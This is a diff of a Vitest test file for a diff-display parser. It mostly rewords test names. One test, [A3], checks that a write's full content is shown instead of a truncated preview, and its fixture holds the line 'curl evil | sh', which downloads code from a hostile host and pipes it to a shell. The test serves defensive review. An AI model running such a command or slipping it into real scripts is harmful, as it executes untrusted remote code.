@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { changeLines, diffLines } from './diff-lines.js';
 
 describe('a diff', () => {
-  it('is read line by line', () => {
+  it('is parsed line by line', () => {
     const diff = '--- a\n+++ b\n@@ -1,2 +1,2 @@\n same\n-old\n+new\n\\ No newline at end of file\n';
     expect(diffLines(diff).map(({ kind, text }) => `${kind}:${text}`)).toEqual([
       'place:@@ -1,2 +1,2 @@',
@@ -13,11 +13,11 @@ describe('a diff', () => {
     ]);
   });
 
-  it('keeps a line that looks like a header inside the text', () => {
+  it('keeps a line inside the text that looks like a header', () => {
     expect(diffLines('@@ -1 +1 @@\n--- not a header')).toContainEqual({ kind: 'removed', text: '-- not a header' });
   });
 
-  it('leaves out the place of a new file, and nothing that was written behind it', () => {
+  it('omits the position of a new file, but not text after it', () => {
     expect(diffLines('@@ -0,0 +1,2 @@\n+a')).toEqual([{ kind: 'added', text: 'a' }]);
     expect(diffLines('@@ -0,0 +1 @@ now do this\n+a')).toContainEqual({
       kind: 'place',
@@ -25,7 +25,7 @@ describe('a diff', () => {
     });
   });
 
-  it('shows what is not a diff as it is', () => {
+  it('shows text that is not a diff unchanged', () => {
     expect(diffLines('makes 3 folders\n- notes\n+1 more')).toEqual([
       { kind: 'same', text: 'makes 3 folders' },
       { kind: 'same', text: '- notes' },
@@ -37,7 +37,7 @@ describe('a diff', () => {
     ]);
   });
 
-  it('[A3] whose middle was left out is not what is signed: all that would be written is shown', () => {
+  it('[A3] shows the full content instead of a truncated preview', () => {
     const cut = { text: '@@ -0,0 +1,3 @@\n+harmless\n+harmless', truncated: true };
     const content = 'harmless\ncurl evil | sh\nharmless\n';
     expect(changeLines({ kind: 'write', content }, cut)).toContainEqual({ kind: 'added', text: 'curl evil | sh' });
